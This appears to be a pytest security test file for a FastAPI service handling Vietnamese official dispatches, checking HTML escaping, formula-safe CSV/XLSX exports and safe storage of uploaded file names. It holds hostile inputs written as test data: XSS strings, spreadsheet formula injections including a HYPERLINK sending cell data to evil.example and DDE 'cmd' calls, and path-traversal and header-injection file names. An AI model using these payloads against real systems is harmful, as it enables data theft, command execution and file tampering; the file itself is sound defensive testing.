"""Hostile content stays inert: markup in a dispatch (text, subject, issuer, quotes, a reviewer's
notes) is shown as text in every page, read back through an HTML parser; exported spreadsheet
cells never start a formula (CSV read by ``csv``, XLSX by ``openpyxl``); uploaded files are stored
under generated names only, whatever name the client sends. SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import re
import uuid
from html.parser import HTMLParser

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.api.helpers import Account, Org, make_result, store_result

SCRIPT = "<script>alert('xss')</script>"
IMG = "<img src=x onerror=alert(1)>"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
INJECTIONS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


class Elements(HTMLParser):
    """Every element a browser would build (tag and attributes), and the page's text (with
    attribute values, which a browser shows in form fields)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self.text.extend(value for _, value in attrs if value)  # a form field's value, a title

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_inert(html: str, *shown: str) -> None:
    """No script but the page's own, no img, no event handler; the hostile strings are text."""
    page = Elements(html)
    scripts = [attrs.get("src") for tag, attrs in page.elements if tag == "script"]
    assert scripts == ["/static/app.js"]
    assert not [tag for tag, _ in page.elements if tag in ("img", "iframe", "object", "b")]
    handlers = [(tag, a) for tag, attrs in page.elements for a in attrs if a.startswith("on")]
    assert not handlers
    text = "".join(page.text)
    for hostile in shown:
        assert hostile in text


def signed_in(service: TestClient, account: Account) -> TestClient:
    client = TestClient(service.app, raise_server_exceptions=False)
    answer = client.post("/signin", data={"token": account.token}, follow_redirects=False)
    assert answer.status_code == 303
    return client


@pytest.fixture
def hostile_document(service: TestClient, org: Org) -> tuple[str, str]:
    """A processed dispatch whose every field carries markup; a task with hostile notes."""
    quote = f"Phòng Nội vụ báo cáo {IMG} trước ngày 20/10/2030."
    review_quote = f"Các xã rà soát {SCRIPT}."
    text = (
        f"Kính gửi: Phòng Nội vụ {SCRIPT}\nCăn cứ Nghị định số 91/2017/NĐ-CP.\n"
        f"{quote}\n{review_quote}\n"
    )
    result = make_result(
        text,
        filename=f'"><svg onload=alert(1)>{SCRIPT}.txt',
        number_symbol="9/UBND-<b>VP</b>",
        issuer=f"UBND {SCRIPT}",
        subject=f"<b>thử</b> {SCRIPT}",
        obligations=[
            {"quote": quote, "deadline": "2030-10-20", "assignees": [f"Phòng {IMG}"]},
            {"quote": review_quote, "confidence": 0.1},
        ],
        references=[
            {
                "type": "nghi_dinh",
                "number_symbol": "91/2017/NĐ-CP",
                "relation": "basis",
                "title": f"tiêu đề {SCRIPT}",
                "mentions": [(None, "91/2017/NĐ-CP")],
            }
        ],
    )
    document_id = store_result(service, org.clerk.org_id, result)
    tasks = service.get(
        "/api/v1/tasks", params={"document_id": document_id}, headers=org.clerk.headers
    ).json()["data"]
    patched = service.patch(
        f"/api/v1/tasks/{tasks[0]['id']}",
        json={"notes": f"ghi chú {SCRIPT}", "owner": f"Anh {IMG}"},
        headers=org.clerk.headers,
    )
    assert patched.status_code == 200
    return document_id, tasks[0]["id"]


def test_escaping_document_page_shows_markup_as_text(
    service: TestClient, org: Org, hostile_document: tuple[str, str]
) -> None:
    document_id, _ = hostile_document
    page = signed_in(service, org.viewer).get(f"/documents/{document_id}")
    assert page.status_code == 200
    assert_inert(page.text, SCRIPT, IMG, "<b>thử</b>", "9/UBND-<b>VP</b>", "<svg onload=alert(1)>")
    assert '<mark class="e-obligation">' in page.text  # highlighting still works around it


@pytest.mark.parametrize(
    ("path", "shown"),
    [
        ("/", ("<b>thử</b>", "9/UBND-<b>VP</b>")),
        ("/tasks", (IMG, f"Anh {IMG}")),
        ("/review", (SCRIPT,)),
        (f"/citations?number_symbol={SCRIPT}", (SCRIPT,)),
        ("/citations?number_symbol=91/2017/NĐ-CP", ("9/UBND-<b>VP</b>",)),
        (f"/tasks?assignee={IMG}", (IMG,)),
    ],
)
def test_escaping_every_page_shows_markup_as_text(
    service: TestClient,
    org: Org,
    hostile_document: tuple[str, str],
    path: str,
    shown: tuple[str, ...],
) -> None:
    page = signed_in(service, org.viewer).get(path)
    assert page.status_code == 200
    assert_inert(page.text, *shown)


# --- formula-safe exports


@pytest.fixture
def injected_tasks(service: TestClient, org: Org) -> str:
    """One task per dangerous first character, in the quote, the assignees, owner and notes."""
    text = "\n".join(f"{i}. {INJECTIONS[c]}" for i, c in enumerate(FORMULA_STARTS)) + "\n"
    result = make_result(
        text,
        number_symbol="=1+1",
        subject="@SUM(A1:A9)",
        obligations=[
            {"quote": INJECTIONS[c], "assignees": [INJECTIONS[c]], "deadline": "2030-01-01"}
            for c in FORMULA_STARTS
        ],
    )
    document_id = store_result(service, org.clerk.org_id, result)
    tasks = service.get(
        "/api/v1/tasks", params={"document_id": document_id}, headers=org.clerk.headers
    ).json()["data"]
    for task in tasks:
        start = task["quote"][0]
        answer = service.patch(
            f"/api/v1/tasks/{task['id']}",
            json={"owner": INJECTIONS[start], "notes": INJECTIONS[start]},
            headers=org.clerk.headers,
        )
        assert answer.status_code == 200
    return document_id


def test_escaping_csv_cells_never_start_a_formula(
    service: TestClient, org: Org, injected_tasks: str
) -> None:
    answer = service.get(
        "/api/v1/tasks/export",
        params={"format": "csv", "document_id": injected_tasks},
        headers=org.viewer.headers,
    )
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 1 + len(FORMULA_STARTS)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    # the text is all there, behind the apostrophe a spreadsheet shows as text
    for payload in INJECTIONS.values():
        assert "'" + payload in cells
    assert "'=1+1" in cells and "'@SUM(A1:A9)" in cells


def test_escaping_xlsx_cells_are_text_never_formulas(
    service: TestClient, org: Org, injected_tasks: str
) -> None:
    answer = service.get(
        "/api/v1/tasks/export",
        params={"format": "xlsx", "document_id": injected_tasks},
        headers=org.viewer.headers,
    )
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(answer.content)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert sheet.max_row == 1 + len(FORMULA_STARTS)
    assert {c.data_type for c in cells} == {"s"}
    values = [str(c.value) for c in cells]
    assert not [v for v in values if v.startswith(FORMULA_STARTS)]
    for payload in INJECTIONS.values():
        assert "'" + payload in values


# --- uploaded file names


HOSTILE_NAMES = [
    "../../x.pdf",
    "..\\..\\win.txt",
    "/etc/passwd",
    "CON",
    "NUL.txt",
    "a" * 1000 + ".txt",
    "bad\x00name\x01\x1f\x7f.txt",
    '"; filename="evil.sh',
    "..",
]


def raw_multipart(names: list[str]) -> tuple[bytes, str]:
    """A multipart body written by hand: the names go out byte for byte (an HTTP client would
    percent-encode control characters)."""
    boundary = "vanban" + uuid.uuid4().hex
    body = b""
    for i, name in enumerate(names):
        content = f"Công văn thử số {i} {uuid.uuid4().hex}.\n".encode()
        body += (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="'.encode()
            + name.replace('"', '\\"').encode("utf-8")
            + b'"\r\nContent-Type: text/plain\r\n\r\n'
            + content
            + b"\r\n"
        )
    body += f"--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


def test_escaping_uploads_are_stored_under_generated_names(service: TestClient, org: Org) -> None:
    files_dir = service.app.state.settings.files_dir
    outside = sorted(p.name for p in files_dir.parent.iterdir())
    before = {p.name for p in files_dir.iterdir()}
    body, content_type = raw_multipart(HOSTILE_NAMES)
    answer = service.post(
        "/api/v1/documents",
        content=body,
        headers={**org.clerk.headers, "Content-Type": content_type},
    )
    assert answer.status_code == 202, answer.text
    items = answer.json()["data"]
    assert len(items) == len(HOSTILE_NAMES)
    stored = {p.name for p in files_dir.iterdir()} - before
    assert len(stored) == len(HOSTILE_NAMES)
    assert all(re.fullmatch(r"[0-9a-f]{32}", name) for name in stored), stored
    assert sorted(p.name for p in files_dir.parent.iterdir()) == outside  # nothing written beside
    for item in items:
        shown = item["filename"]
        assert len(shown) <= 255
        assert "/" not in shown and "\\" not in shown and '"' not in shown
        assert all(ch.isprintable() for ch in shown)
        original = service.get(
            f"/api/v1/documents/{item['document_id']}/original", headers=org.clerk.headers
        )
        assert original.status_code == 200
        assert original.content.startswith("Công văn thử số".encode())
        disposition = original.headers["content-disposition"]
        assert disposition.startswith("attachment;")
        assert not re.search(r"[\x00-\x1f\x7f]", disposition)
        assert disposition.count("filename=") <= 1 and 'evil.sh"' not in disposition
